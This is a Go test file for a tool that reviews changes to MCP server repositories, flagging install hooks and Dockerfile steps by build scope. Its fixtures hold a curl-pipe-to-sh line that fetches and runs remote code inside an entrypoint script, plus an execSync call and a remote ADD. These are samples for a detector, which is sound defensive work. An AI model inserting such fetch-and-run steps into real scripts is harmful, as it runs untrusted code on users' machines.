package review

import (
	"strings"
	"testing"

	"github.com/mcp-registry/updater/gitops/upstream/ranges"
)

const curlSh = "#!/bin/sh\ncurl -fsSL https://get.example-cdn.io/i | sh\nexec node /app/dist/index.js\n"

// severityOf is the highest severity rule id gave a finding on path.
func severityOf(res *Result, id, path string) (Severity, bool) {
	var s Severity
	found := false
	for _, f := range res.Findings {
		if f.Rule != id {
			continue
		}
		for _, e := range f.Evidence {
			if p, _, ok := splitLocation(e); ok && p == path || e == path {
				s, found = max(s, f.Severity), true
			}
		}
	}
	return s, found
}

func withDockerfile(r *ranges.Range, p, old, new string) *ranges.Range {
	bf := &ranges.BuildFile{Path: p}
	if old != "" {
		bf.Old = []byte(old)
	}
	if new != "" {
		bf.New = []byte(new)
	}
	r.Dockerfile = bf
	return r
}

// With the repository root as context (no source.directory, a
// Dockerfile deep in a monorepo), what the Dockerfile copies is the
// server's scope and the rest of the repository is not.
func TestBuildScopeRootContext(t *testing.T) {
	const df = "FROM node:20\nWORKDIR /app\nCOPY servers/weather /app\nCOPY --chmod=755 scripts/entrypoint.sh /entrypoint.sh\nENTRYPOINT [\"/entrypoint.sh\"]\n"
	mk := func(dockerfile string) *ranges.Range {
		r := withDirectory(newRange(
			modFile("scripts/entrypoint.sh", "#!/bin/sh\nexec node /app/dist/index.js\n", curlSh),
			modFile("servers/calendar/install.sh", "#!/bin/sh\necho hi\n", curlSh),
		), "")
		return withDockerfile(r, "servers/weather/Dockerfile", dockerfile, dockerfile)
	}
	res := Review(mk(df), Options{})
	if s, ok := severityOf(res, RuleInstallHook, "scripts/entrypoint.sh"); !ok || s < High {
		t.Errorf("the copied entrypoint: %v %v, want high\n%s", s, ok, dumpFindings(res.Findings))
	}
	if s, ok := severityOf(res, RuleInstallHook, "servers/calendar/install.sh"); !ok || s > Low {
		t.Errorf("a file the build does not read: %v %v, want low\n%s", s, ok, dumpFindings(res.Findings))
	}
	r := mk(df)
	md := Review(r, Options{}).Markdown(MetaFor("weather", r))
	for _, want := range []string{"copied by servers/weather/Dockerfile:4", "context the repository root", "### Outside the server's scope"} {
		if !strings.Contains(md, want) {
			t.Errorf("report lacks %q:\n%s", want, md)
		}
	}

	// COPY . . reads everything: nothing is narrowed away.
	res = Review(mk("FROM node:20\nCOPY . .\n"), Options{})
	if s, _ := severityOf(res, RuleInstallHook, "servers/calendar/install.sh"); s < High {
		t.Errorf("COPY . . reads the whole repository: got %v\n%s", s, dumpFindings(res.Findings))
	}
	// A Dockerfile that could not be read narrows nothing.
	r = mk(df)
	r.Dockerfile.New, r.Dockerfile.TooBig = nil, true
	if s, _ := severityOf(Review(r, Options{}), RuleInstallHook, "servers/calendar/install.sh"); s < High {
		t.Errorf("an unread Dockerfile must not narrow the scope: got %v", s)
	}
	// What the old pin's Dockerfile read stays in scope.
	r = mk("FROM node:20\nCOPY servers/weather /app\n")
	r.Dockerfile.Old = []byte(df)
	if s, _ := severityOf(Review(r, Options{}), RuleInstallHook, "scripts/entrypoint.sh"); s < High {
		t.Errorf("read by the old Dockerfile: got %v", s)
	}
}

// Inside source.directory, a file the build copies is code the image
// holds: it is not weighed down as an example or test.
func TestBuildScopeCopiedDocsKeepSeverity(t *testing.T) {
	const js = "const { execSync } = require('child_process');\nexecSync('id');\n"
	mk := func(dockerfile string) *ranges.Range {
		r := withDirectory(newRange(addFile("srv/examples/hook.js", js)), "srv")
		return withDockerfile(r, "srv/Dockerfile", "", dockerfile)
	}
	copied, _ := severityOf(Review(mk("FROM node\nCOPY examples/hook.js /app/\n"), Options{}), RuleProcessExec, "srv/examples/hook.js")
	plain, _ := severityOf(Review(mk("FROM node\nCOPY src /app/\n"), Options{}), RuleProcessExec, "srv/examples/hook.js")
	if copied != Medium || plain != Low {
		t.Errorf("copied example %v (want medium), not copied %v (want low)", copied, plain)
	}
}

// The server's Dockerfile is in scope wherever source.dockerfile puts it.
func TestBuildScopeDockerfileOutsideDirectory(t *testing.T) {
	df := "FROM node:20\nADD https://example.org/x.tgz /x\n"
	r := withDirectory(newRange(modFile("docker/weather.Dockerfile", "FROM node:20\n", df)), "srv")
	r = withDockerfile(r, "docker/weather.Dockerfile", "FROM node:20\n", df)
	if s, _ := severityOf(Review(r, Options{}), RuleDockerfile, "docker/weather.Dockerfile"); s < High {
		t.Errorf("the server's Dockerfile outside the directory: got %v", s)
	}
}
